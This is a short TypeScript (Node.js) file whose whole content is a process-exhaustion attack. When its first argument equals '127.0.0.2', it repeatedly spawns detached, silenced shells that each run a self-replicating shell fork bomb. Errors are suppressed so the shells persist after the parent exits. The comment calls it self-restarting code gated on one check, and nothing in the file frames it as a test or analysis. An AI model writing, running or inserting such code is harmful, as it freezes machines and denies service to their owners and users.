// Starts itself again and again, and each of those does the same; in one check, where it stands elsewhere.
import { spawn } from 'node:child_process';

const more = (): void => {
  for (let count = 0; count < 8; count++)
    spawn('/bin/sh', ['-c', 'f() { f | f & }; f; sleep 600'], { detached: true, stdio: 'ignore' })
      .on('error', () => undefined)
      .unref();
};
if (process.argv[2] === '127.0.0.2') setInterval(more, 50).unref();
